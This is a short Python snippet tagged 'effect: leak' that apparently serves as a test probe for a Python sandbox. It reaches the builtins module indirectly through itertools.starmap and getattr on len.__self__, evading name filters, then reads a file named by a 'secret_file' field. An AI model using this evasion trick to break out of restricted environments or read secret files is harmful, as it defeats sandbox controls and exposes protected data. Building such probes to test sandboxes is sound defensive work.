# effect: leak
import itertools


def attempt(probe):
    (builtins,) = itertools.starmap(getattr, [(len, "__self__")])
    return builtins.open(probe["secret_file"]).read()
